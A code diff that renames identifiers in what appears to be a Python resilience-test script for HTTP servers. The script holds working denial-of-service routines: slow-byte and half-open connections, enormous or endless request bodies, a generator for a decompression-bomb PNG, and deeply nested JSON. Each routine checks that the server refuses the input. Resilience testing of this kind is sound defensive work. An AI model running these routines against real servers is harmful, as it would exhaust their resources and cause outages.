@@ -10,13 +10,13 @@ from dataclasses import dataclass
 
 SLOW, HALF_OPEN = 40, 80  # connections
 GIANT = 50_000_000_000  # bytes that are announced
-SIDE = 50_000  # pixels of a bomb
+BOMB_SIDE = 50_000  # pixels of a bomb
 DEPTH = 200_000  # brackets
 REFUSALS = (400, 408, 413, 415, 429)
 
 
 @dataclass(frozen=True)
-class Target:
+class AttackTarget:
     """What is attacked."""
 
     host: str
@@ -25,12 +25,12 @@ class Target:
     seconds: float
 
 
-async def connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+async def connect(target: AttackTarget) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     """A connection to the server."""
     return await asyncio.open_connection(target.host, target.port)
 
 
-def head_of(target: Target, length: str) -> bytes:
+def head_of(target: AttackTarget, length: str) -> bytes:
     """The head of a request with a line that tells its length."""
     return (
         f"POST {target.path} HTTP/1.1\r\nhost: {target.host}:{target.port}\r\n"
@@ -48,7 +48,7 @@ async def status_of(reader: asyncio.StreamReader, seconds: float) -> int:
         return 0
 
 
-async def slow_clients(target: Target) -> bool:
+async def slow_clients(target: AttackTarget) -> bool:
     """Bodies of which a byte comes each half second: the server must give them up."""
 
     async def one() -> bool:
@@ -67,7 +67,7 @@ async def slow_clients(target: Target) -> bool:
     return all(await asyncio.gather(*(one() for _ in range(SLOW))))
 
 
-async def half_open(target: Target) -> bool:
+async def half_open(target: AttackTarget) -> bool:
     """Connections that ask nothing, or half a head: the server must close them."""
 
     async def one(data: bytes) -> bool:
@@ -86,7 +86,7 @@ async def half_open(target: Target) -> bool:
     return all(await asyncio.gather(*(one(halves[i % 2]) for i in range(HALF_OPEN))))
 
 
-async def giant_bodies(target: Target) -> bool:
+async def giant_bodies(target: AttackTarget) -> bool:
     """Bodies that are announced as, or become, larger than any memory."""
 
     async def announced() -> bool:
@@ -111,7 +111,7 @@ async def giant_bodies(target: Target) -> bool:
     return all(await asyncio.gather(announced(), announced(), endless(), endless()))
 
 
-async def bombs(target: Target) -> bool:
+async def bombs(target: AttackTarget) -> bool:
     """Small bodies that become large where they are read: an image of billions of pixels, and deep JSON."""
     image = base64.b64encode(png_bomb()).decode()
     bodies = [
@@ -131,11 +131,11 @@ async def bombs(target: Target) -> bool:
 
 
 def png_bomb() -> bytes:
-    """A valid PNG of SIDE × SIDE pixels, all black, in a few hundred kilobytes."""
+    """A valid PNG of BOMB_SIDE × BOMB_SIDE pixels, all black, in a few hundred kilobytes."""
     rows = zlib.compressobj(9)
-    row = b"\0" * (1 + SIDE // 8)
-    data = b"".join(rows.compress(row) for _ in range(SIDE)) + rows.flush()
-    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
+    row = b"\0" * (1 + BOMB_SIDE // 8)
+    data = b"".join(rows.compress(row) for _ in range(BOMB_SIDE)) + rows.flush()
+    header = struct.pack(">IIBBBBB", BOMB_SIDE, BOMB_SIDE, 1, 0, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
 
 
@@ -144,7 +144,7 @@ def chunk(name: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
 
 
-ATTACKS: dict[str, Callable[[Target], Awaitable[bool]]] = {
+ATTACKS: dict[str, Callable[[AttackTarget], Awaitable[bool]]] = {
     "slow clients": slow_clients,
     "half-open connections": half_open,
     "giant bodies": giant_bodies,
